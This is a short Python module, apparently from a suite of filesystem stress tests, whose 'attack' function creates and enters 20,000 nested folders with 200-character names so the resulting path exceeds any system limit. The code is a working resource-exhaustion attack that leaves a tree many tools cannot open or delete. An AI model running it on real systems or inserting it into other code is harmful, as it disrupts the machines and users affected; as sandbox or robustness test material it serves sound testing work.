"""Nest 20,000 folders with long names, too deep for any path."""

import os
from typing import Any


def attack(target: dict[str, Any]) -> bool:
    name = "d" * 200
    for _ in range(20_000):
        os.mkdir(name)
        os.chdir(name)
    return True
